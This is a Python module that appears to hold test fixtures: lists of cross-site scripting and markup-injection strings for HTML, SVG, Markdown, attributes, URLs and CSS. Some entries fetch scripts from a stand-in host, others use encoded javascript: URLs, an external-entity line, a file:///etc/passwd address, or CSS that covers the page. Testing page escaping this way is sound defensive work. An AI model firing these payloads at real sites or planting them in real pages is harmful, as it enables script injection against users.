r"""Texts that would do something if a page took them for anything else than text.

What each would do can be noticed from outside: it sets ``window.planted``, opens a dialog, asks ``planted.invalid`` for
something, leaves the page, or brings in an element that the page has not. They hold no blank at their edges, and what
stands in braces has blanks around it, since ``{word}`` is a placeholder where sentences are read.
"""

from __future__ import annotations

HTML = (
    "<script>window.planted=true</script>",
    "<SCRIPT>window.planted=true</SCRIPT>",
    "<script src=//planted.invalid/a.js></script>",
    "<script type=module>window.planted=true</script>",
    "<script/x>window.planted=true</script/x>",
    "</script><script>window.planted=true</script>",
    "</title><script>window.planted=true</script>",
    "</style><script>window.planted=true</script>",
    "</textarea><script>window.planted=true</script>",
    "--><script>window.planted=true</script><!--",
    "]]><script>window.planted=true</script>",
    "<!--><img src=x onerror=window.planted=true>-->",
    "<img src=x onerror=window.planted=true>",
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=confirm(1)>",
    "<<img src=x onerror=prompt(1)>>",
    "<iframe src=//planted.invalid/frame></iframe>",
    "<iframe srcdoc='<script>parent.planted=true</script>'></iframe>",
    "<object data=//planted.invalid/object></object>",
    "<embed src=//planted.invalid/embed>",
    "<video><source onerror=window.planted=true></video>",
    "<audio src=x onerror=window.planted=true autoplay></audio>",
    "<details open ontoggle=window.planted=true>chi tiết</details>",
    "<input autofocus onfocus=window.planted=true>",
    "<select autofocus onfocus=window.planted=true></select>",
    "<form action=//planted.invalid/form><button>gửi</button></form>",
    "<button formaction=//planted.invalid/button>bấm</button>",
    "<meta http-equiv=refresh content='0;url=//planted.invalid/'>",
    "<base href=//planted.invalid/>",
    "<link rel=stylesheet href=//planted.invalid/a.css>",
    "<link rel=prefetch href=//planted.invalid/next>",
    "<body onload=window.planted=true>",
    "<table background=//planted.invalid/b><tr><td>ô",
    "<template><script>window.planted=true</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.planted=true>'>",
    "<dialog open>Mất trang</dialog>",
    "<marquee onstart=window.planted=true>chạy</marquee>",
    "</td></tr></table><h1>Tiêu đề giả</h1>",
    "</main></body></html><h1>Trang giả</h1>",
    "&lt;script&gt;window.planted=true&lt;/script&gt;",
    "&#60;script&#62;window.planted=true&#60;/script&#62;",
    "&amp;lt;img src=x onerror=window.planted=true&amp;gt;",
    "＜script＞window.planted=true＜/script＞",
    "{{ window.planted }}{% raw %}<b>đậm</b>{% endraw %}",
    "${ window.planted=true }",
    "<%= window.planted %>",
)
"""Elements, their ends, comments, entities, and the marks of template languages."""

SVG = (
    "<svg onload=window.planted=true>",
    "<svg/onload=window.planted=true>",
    "<svg><script>window.planted=true</script></svg>",
    "<svg><script href=//planted.invalid/s.js /></svg>",
    "<svg><style>* { display: none }</style></svg>",
    "<svg><foreignObject><iframe src=//planted.invalid/f></iframe></foreignObject></svg>",
    "<svg><image href=//planted.invalid/i.png /></svg>",
    "<svg><use href=//planted.invalid/u.svg#a /></svg>",
    "<svg><a href=javascript:window.planted=true><text>bấm</text></a></svg>",
    "<svg><animate onbegin=window.planted=true attributeName=x dur=1s></svg>",
    "<svg><set attributeName=onmouseover to=window.planted=true></svg>",
    "<svg><title><img src=x onerror=window.planted=true></title></svg>",
    "<svg><desc></desc><script>window.planted=true</script>",
    "</text></svg><script>window.planted=true</script>",
    "</svg><img src=x onerror=window.planted=true>",
    "<math><mtext><img src=x onerror=window.planted=true></mtext></math>",
    "<?xml-stylesheet href='//planted.invalid/x.css'?>",
    "<!DOCTYPE svg [<!ENTITY x SYSTEM '//planted.invalid/e'>]>&x;",
    "<![CDATA[<script>window.planted=true</script>]]>",
    r"$\frac{ 1 }{ 2 }$ $^{ \mathrm{ x } }$",
)
"""What a drawing must not hold, and mathtext, which whoever draws charts may read."""

MARKDOWN = (
    "[bấm vào đây](javascript:window.planted=true)",
    "[bấm](//planted.invalid/link 'tên')",
    "![ảnh](//planted.invalid/image.png)",
    "![ảnh](x' onerror='window.planted=true)",
    "<javascript:window.planted=true>",
    "<https://planted.invalid/auto>",
    "https://planted.invalid/bare",
    "[tham chiếu]: javascript:window.planted=true",
    "**đậm** _nghiêng_ ~~gạch~~",
    "`<img src=x onerror=window.planted=true>`",
    "```html <script>window.planted=true</script> ```",
    "# Tiêu đề giả",
    "> <script>window.planted=true</script>",
    "| a | b | <img src=x onerror=window.planted=true> |",
    "- [x] <input autofocus onfocus=window.planted=true>",
    "* * * <hr>",
    "$$\\href{ javascript:window.planted=true }{ x }$$",
    "\\<img src=x onerror=window.planted=true\\>",
)
"""Links, pictures, code and headings as Markdown writes them."""

ATTRIBUTE = (
    '" onmouseover="window.planted=true',
    '" onfocus="window.planted=true" autofocus="',
    '" autofocus tabindex="0" onfocus="window.planted=true" x="',
    "' onmouseover='window.planted=true",
    "' onfocus='window.planted=true' autofocus='",
    '"><script>window.planted=true</script>',
    '"><img src=x onerror=window.planted=true>',
    "'><img src=x onerror=window.planted=true>",
    '"/><svg onload=window.planted=true>',
    '" style="position:fixed;inset:0;background:red',
    '" class="unseen" hidden="',
    '" href="//planted.invalid/attribute" x="',
    '" id="page-report" name="x',
    '" popover onbeforetoggle="window.planted=true" x="',
    '" oncontentvisibilityautostatechange="window.planted=true" x="',
    "` onmouseover=window.planted=true `",
    "&quot; onmouseover=&quot;window.planted=true",
    "&#34; onfocus=&#34;window.planted=true&#34; autofocus",
    "x onmouseover=window.planted=true y",
    '\\" onmouseover=\\"window.planted=true',
)
"""Quotation marks that would end an attribute, and what would come after."""

URL = (
    "javascript:window.planted=true",
    "JaVaScRiPt:window.planted=true",
    "javascript://planted.invalid/%0Awindow.planted=true",
    "java&Tab;script:window.planted=true",
    "java&#x0A;script:window.planted=true",
    "&#106;avascript:window.planted=true",
    "data:text/html,<script>parent.planted=true</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucGxhbnRlZD0xPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.planted=true'/>",
    "vbscript:msgbox(planted)",
    "//planted.invalid/protocol-relative",
    "http://planted.invalid/?q=<script>window.planted=true</script>",
    "file:///etc/passwd#planted",
    "#page-top' onclick='window.planted=true",
    "%3Cscript%3Ewindow.planted=true%3C/script%3E",
    "../../planted.invalid/../<b>lên</b>",
)
"""Addresses that run something, or lead elsewhere."""

CSS = (
    "<style>* { display: none }</style>",
    "<style>@import '//planted.invalid/a.css';</style>",
    "<style>body { background: url(//planted.invalid/b.png) }</style>",
    "<style>main::before { content: 'giả' }</style>",
    "</style><style>html { display: none !important }</style>",
    "<p style='position:fixed;inset:0;z-index:9999;background:#fff'>che trang</p>",
    "<p style=background:url(//planted.invalid/inline)>chữ</p>",
    "<b style=animation:planted onanimationstart=window.planted=true>đậm</b>",
    "} * { display: none } a {",
    "; background: url(//planted.invalid/c.png)",
    "url(//planted.invalid/url)",
    "expression(window.planted=true)",
    "@import url(//planted.invalid/import.css);",
    "*/ body { display: none } /*",
    "<link rel=stylesheet href='data:text/css,*%7Bdisplay:none%7D'>",
    "\\3c style\\3e * { display: none } \\3c /style\\3e",
)
"""Styles that hide, cover, or ask for something."""

PAYLOADS = (*HTML, *SVG, *MARKDOWN, *ATTRIBUTE, *URL, *CSS)
"""All of them; each is there once."""
